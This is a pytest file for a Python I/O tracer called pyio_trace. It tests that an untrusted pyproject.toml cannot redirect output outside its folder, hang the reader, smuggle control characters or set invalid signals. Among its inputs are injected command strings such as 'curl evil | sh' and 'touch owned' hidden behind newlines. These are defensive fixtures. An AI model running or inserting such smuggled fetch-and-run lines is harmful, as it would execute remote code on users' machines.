"""A pyproject.toml is untrusted: which one is read, what it may set, and that it cannot block a program."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from pyio_trace.config import Config, load
from pyio_trace.errors import ConfigError
from pyio_trace.output import log_paths

ROOT = str(Path(__file__).parents[1])
SITE = 'stacks = "site"\n'


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A folder two levels into a repository."""
    (tmp_path / "repository/.git").mkdir(parents=True)
    (tmp_path / "repository/a/b").mkdir(parents=True)
    return tmp_path / "repository/a/b"


def project(folder: Path, text: str) -> Path:
    path = folder / "pyproject.toml"
    path.write_text("[tool.pyio_trace]\n" + text)
    return path


def refusal(folder: Path) -> ConfigError:
    with pytest.raises(ConfigError) as problem:
        load({}, {}, str(folder))
    assert str(folder / "pyproject.toml") in str(problem.value) and "\n" not in str(problem.value)
    return problem.value


# ---- which one ---------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["fifo", "zero", "folder", "dangling"])
def test_what_is_no_regular_file_is_passed_over(kind: str, clone: Path) -> None:
    # GIVEN something by the name of pyproject.toml that would keep a reader waiting or never end, and one above
    project(clone.parent, SITE)
    path = clone / "pyproject.toml"
    make = {
        "fifo": lambda: os.mkfifo(path), "zero": lambda: path.symlink_to("/dev/zero"),
        "folder": path.mkdir, "dangling": lambda: path.symlink_to("nowhere"),
    }  # fmt: skip
    make[kind]()
    # WHEN a program of ours starts there, with a bound on its memory and its time
    program = (
        f"import resource, sys; sys.path.insert(0, {ROOT!r}); resource.setrlimit(resource.RLIMIT_AS, (1 << 30,) * 2)\n"
        "from pyio_trace.config import load; print(load({}, {}).stacks)"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=clone, capture_output=True, text=True, timeout=240)
    # THEN the one above counts
    assert (done.returncode, done.stdout, done.stderr) == (0, "site\n", "")


def test_a_link_to_a_file_of_ones_own_is_read(clone: Path) -> None:
    project(clone.parent, SITE).rename(clone / "settings.toml")
    (clone / "pyproject.toml").symlink_to("settings.toml")
    assert load({}, {}, str(clone)).stacks == "site"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make another user's files")
def test_another_users_is_passed_over(clone: Path) -> None:
    # GIVEN another user's file WHEN settings are looked for THEN it is as if it were not there
    os.chown(project(clone, "no toml at all"), 65534, 65534)
    assert load({}, {}, str(clone)) == Config()
    project(clone.parent, SITE)
    assert load({}, {}, str(clone)).stacks == "site"


def test_a_huge_one_is_refused_unread(clone: Path) -> None:
    os.truncate(project(clone, SITE), 1 << 40)
    assert refusal(clone).slug == "bad-pyproject"


@pytest.mark.parametrize("end", ["repository", "worktree", "home"])
def test_the_search_ends(end: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # GIVEN settings above a repository, or above the user's home
    here = tmp_path / "top/a"
    here.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "elsewhere"))
    project(tmp_path, SITE)
    assert load({}, {}, str(here)).stacks == "site"
    if end == "repository":
        (tmp_path / "top/.git").mkdir()
    elif end == "worktree":
        (tmp_path / "top/.git").write_text("gitdir: elsewhere\n")
    else:
        (tmp_path / "link").symlink_to("top")
        monkeypatch.setenv("HOME", str(tmp_path / "link"))
    # WHEN they are looked for from within THEN they do not count
    assert load({}, {}, str(here)) == Config()
    # AND those of that folder itself do
    project(tmp_path / "top", 'stacks = "off"')
    assert load({}, {}, str(here)).stacks == "off"


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None, reason="only root can mount")
def test_the_search_ends_with_the_file_system(tmp_path: Path) -> None:
    project(tmp_path, SITE)
    (tmp_path / "disk").mkdir()
    program = "import sys; sys.path[:0] = sys.argv[1:]; from pyio_trace.config import load; print(load({}, {}).stacks)"
    words = 'cd "$1"; "$2" -c "$3" "$4"; mount -t tmpfs none . || exit 77; mkdir a; cd "$1/a"; "$2" -c "$3" "$4"'
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", words, "sh", str(tmp_path / "disk"), sys.executable, program, ROOT],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    if done.returncode == 77 or "unshare" in done.stderr:
        pytest.skip("mounting is not allowed here")
    assert done.stdout == "site\nfull\n", done.stderr


# ---- how far it may go -------------------------------------------------------------------


@pytest.mark.parametrize(
    "output",
    ["~/.profile", "~/run.pyio", "/tmp/run.pyio", "../run.pyio", "logs/../../run.pyio", ".profile", "run", "logs/",
     "Makefile", "out/run.pyio", "link.pyio", "%j/run.pyio", "logs/%s/%s/run.parquet", ".."],
)  # fmt: skip
def test_an_output_that_leads_elsewhere_is_refused(output: str, clone: Path) -> None:
    # GIVEN a clone with links out of it
    (clone / "logs").mkdir()
    (clone / "out").symlink_to(clone.parent.parent)
    (clone / "link.pyio").symlink_to("/nowhere/run.pyio")
    project(clone, f"output = '{output}'")
    # WHEN its settings say that the log be elsewhere, or no log by its name THEN they are refused
    assert refusal(clone).slug == "bad-value"
    # AND who names another log is not hindered
    assert load({"output": "mine"}, {}, str(clone)).output == "mine"
    assert load({}, {"PYIO_TRACE_OUTPUT": "mine"}, str(clone)).output == "mine"


def test_a_folder_is_not_made_for_its_sake(clone: Path) -> None:
    project(clone, "output = 'logs/run.pyio'")
    assert refusal(clone).slug == "no-such-folder"
    assert not (clone / "logs").exists()


@pytest.mark.parametrize("word", ["..", "../..", ".", "/", "a/../../b"])
def test_what_patterns_stand_for_leads_nowhere(word: str, clone: Path) -> None:
    # GIVEN a clone in a folder with a % in its name, a script and a job with hostile names
    home = clone / "100%"
    (home / "logs").mkdir(parents=True)
    project(home, "output = 'logs/%s%j%s.parquet'")
    # WHEN the log's name is made THEN it is in that folder
    pattern = load({}, {}, str(home)).output
    for path in log_paths(pattern, word, {"SLURM_JOB_ID": word}):
        assert path is not None and os.path.dirname(path) == str(home / "logs")


@pytest.mark.parametrize("link", ["train.parquet", "train.7.parquet", "100%.parquet", ".parquet"])
def test_a_link_that_a_pattern_may_stand_for_is_refused(link: str, clone: Path) -> None:
    # GIVEN a clone with a link to a folder elsewhere, by a name that the log of some script would have
    (clone / link).symlink_to(clone.parent.parent)
    output = {"train.7.parquet": "%s.%j.parquet", "100%.parquet": "100%%.parquet"}.get(link, "%s.parquet")
    project(clone, f"output = '{output}'")
    # WHEN its settings have that pattern THEN they are refused
    assert refusal(clone).slug == "bad-value"
    # AND links by other names are no hindrance
    (clone / link).rename(clone / "data.h5")
    assert load({}, {}, str(clone)).output == str(clone / output)


def test_links_within_its_folder_are_followed(clone: Path) -> None:
    (clone / "logs").mkdir()
    (clone / "latest").symlink_to("logs")
    project(clone, "output = 'latest/run.pyio'")
    assert load({}, {}, str(clone)).output == str(clone / "logs/run.pyio")


@pytest.mark.parametrize(
    "text",
    [r'exclude = "x\ncurl evil | sh\n"', r'include = ["*.h5", "\u001b[2J"]', r'output = "a\nb.pyio"', r'mode = "a\rb"',
     r'exclude = "\u202egpj"'],
)  # fmt: skip
def test_control_characters_are_refused(text: str, clone: Path) -> None:
    project(clone, text)
    problem = refusal(clone)
    assert problem.slug == "bad-value" and str(problem).isprintable()


def test_control_characters_of_the_users_own_rules_are_escaped_in_the_log(tmp_path: Path) -> None:
    # GIVEN rules with line breaks in them, from the environment
    from tests.support.programs import Runner, succeeded

    program = Runner(tmp_path)
    outcome = succeeded(program.traced("pass", env={"PYIO_TRACE_EXCLUDE": "*.a\ntouch owned\n\x1b[2J\x7f"}))
    # WHEN the log is there THEN its bytes have no such line
    from pyio_trace.log import layout

    header = layout.HEADER.fields["selection"]
    start = header[1]
    words = outcome.path.read_bytes()[start : start + 1024].rstrip(b"\0")
    assert words == b"include= exclude=*.a\\x0atouch owned\\x0a\\x1b[2J\\x7f min_duration=0 min_size=0"


# ---- signals -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["SEGV", "SIGBUS", "FPE", "ILL", "CHLD", "INT", "TERM", "PROF", "KILL", "11",
     "RTMIN-1", "RTMAX+1", "RTMIN+99", "RTMIN+", "RTMIN+-1", "SIGRTMIN+" + "9" * 5000],
)  # fmt: skip
def test_signals_that_cannot_ask_for_a_dump(name: str, clone: Path) -> None:
    project(clone, f"dump_signal = '{name}'")
    with pytest.raises(ConfigError) as direct:
        Config(dump_signal=name)
    for problem in (refusal(clone), direct.value):
        assert problem.slug == "bad-value" and "USR1, USR2, QUIT" in str(problem)


@pytest.mark.parametrize(
    ("name", "kept"),
    [("usr1", "SIGUSR1"), ("SIGUSR2", "SIGUSR2"), ("QUIT", "SIGQUIT"), ("rtmin", "SIGRTMIN"),
     ("RTMIN+3", "SIGRTMIN+3"), ("SIGRTMAX-1", "SIGRTMAX-1")],
)  # fmt: skip
def test_signals_that_can(name: str, kept: str, clone: Path) -> None:
    project(clone, f"dump_signal = '{name}'")
    config = load({}, {}, str(clone))
    assert config.dump_signal == kept
    assert Config.from_environment(config.to_environment()) == config


def test_a_dump_at_a_real_time_signal(tmp_path: Path) -> None:
    from tests.support.programs import Runner, succeeded

    program = Runner(tmp_path)
    text = f"import os; os.kill(os.getpid(), {signal.SIGRTMIN + 2})"
    succeeded(program.traced(text, env={"PYIO_TRACE_DUMP_SIGNAL": "RTMIN+2"}))
    assert (tmp_path / "run-dump-1.pyio").is_file()


def test_our_lines_do_not_move_a_cursor(capfd: pytest.CaptureFixture[str]) -> None:
    """A log's path, as a folder's name makes it, on the way to a terminal."""
    from pyio_trace.cli.main import main
    from pyio_trace.errors import say

    say("not tracing: /d/\x1b[2J\n\u202e")
    assert main(["finish", "/none/\x1b[2J.pyio"]) == 0
    lines = capfd.readouterr().err.splitlines()
    assert len(lines) == 2 and all(line.isprintable() for line in lines)
